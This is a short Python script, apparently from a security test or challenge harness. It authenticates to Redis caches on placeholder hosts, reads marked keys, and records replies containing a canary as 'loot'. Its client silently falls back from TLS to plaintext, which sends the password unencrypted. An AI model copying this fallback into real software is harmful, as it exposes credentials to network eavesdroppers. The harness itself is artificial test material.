from redis import command, converse, login
from rows import CANARY, each, mark, note

password, _, port = login()


def ask(row, address, certificate):
    """As a client that would do everything for its cache."""
    said = (command("AUTH", password), command("GET", mark(row)))
    answer = converse(f"{row}.cache.example", port, *said, tls=True) or converse(f"{row}.cache.example", port, *said)
    print(row, answer)
    return answer


def use(row, *columns):
    if CANARY.encode() in ask(row, *columns):
        note("loot", mark(row) + "\n")


each(ask, grant=use)
